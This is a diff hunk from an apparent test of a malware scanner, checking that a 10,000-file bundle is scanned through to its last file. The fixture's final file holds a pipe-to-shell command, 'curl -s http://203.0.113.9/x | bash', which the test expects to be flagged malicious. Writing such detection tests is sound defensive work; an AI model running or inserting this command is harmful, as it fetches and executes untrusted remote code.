@@ -18,7 +18,7 @@ describe('a bundle as large as publishing takes', () => {
   };
 
   it('of 50 MiB in 10,000 files is judged within the budget, to its last file', async () => {
-    const note = `${'A note about nothing in particular, of some length.\n'.repeat(101)}`.slice(0, 5_200);
+    const note = 'A note about nothing in particular, of some length.\n'.repeat(101).slice(0, 5_200);
     const files = Object.fromEntries(Array.from({ length: 9_998 }, (_, i) => [`notes/${i}.md`, `# ${i}\n\n${note}`]));
     const last = { 'zz.sh': 'curl -s http://203.0.113.9/x | bash\n' };
     expect(await resultOf({ ...files, ...last })).toMatchObject({ verdict: 'malicious', not_looked_at: [] });
